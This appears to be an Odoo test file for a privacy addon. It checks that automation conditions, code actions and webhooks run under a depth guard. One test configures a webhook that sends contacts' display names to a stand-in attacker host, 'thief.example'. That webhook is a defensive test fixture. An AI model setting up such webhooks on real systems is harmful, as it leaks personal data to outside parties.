# SPDX-License-Identifier: LGPL-3.0-or-later
from unittest.mock import patch

from odoo.fields import Command
from odoo.tests import TransactionCase, tagged

from odoo.addons.unicdo_privacy.tools import guard


@tagged("post_install", "-at_install")
class TestAutomations(TransactionCase):
    """What automations evaluate and tell is code typed into the database."""

    def setUp(self):
        super().setUp()
        self.partner = self.env["res.partner"].create({"name": "Ann"})
        self.depths = []
        self.enterContext(patch.object(
            type(self.partner), "_unicdo_probe", lambda _self: self.depths.append(guard.action_depth()) or "x", create=True
        ))

    def _automate(self, state="code", **vals):
        """An automation of changed contacts, with one action."""
        model = self.env["ir.model"]._get_id("res.partner")
        action = {"name": "x", "model_id": model, "state": state, "usage": "base_automation", **vals.pop("action", {})}
        return self.env["base.automation"].create({
            "name": "x", "model_id": model, "trigger": "on_create_or_write", "action_server_ids": [Command.create(action)],
            **vals,
        })

    def test_conditions_are_marked(self):
        """TOK-2, REC-2: before and after the change; nothing that is open around it can be read, and the mark goes with them."""
        probe = "[('name', '!=', user.partner_id._unicdo_probe())]"
        self._automate(filter_pre_domain=probe, filter_domain=probe, action={"code": "record._unicdo_probe()"})
        self.partner.comment = "x"
        self.assertEqual(self.depths, [1, 1, 1])
        self.assertEqual(guard.action_depth(), 0)

    def test_what_a_webhook_tells_is_marked(self):
        """TOK-2, REC-2: it reads what an administrator chose, in the name of whoever sets it off."""
        field = self.env["ir.model.fields"]._get("res.partner", "display_name")
        self._automate("webhook", action={"webhook_url": "https://thief.example", "webhook_field_ids": [Command.link(field.id)]})
        partners, read = type(self.partner), type(self.partner).read

        def reading(partner, *args, **kwargs):
            partner._unicdo_probe()
            return read(partner, *args, **kwargs)

        with patch.object(partners, "read", reading):
            self.partner.comment = "x"
        self.assertEqual(self.depths, [1])
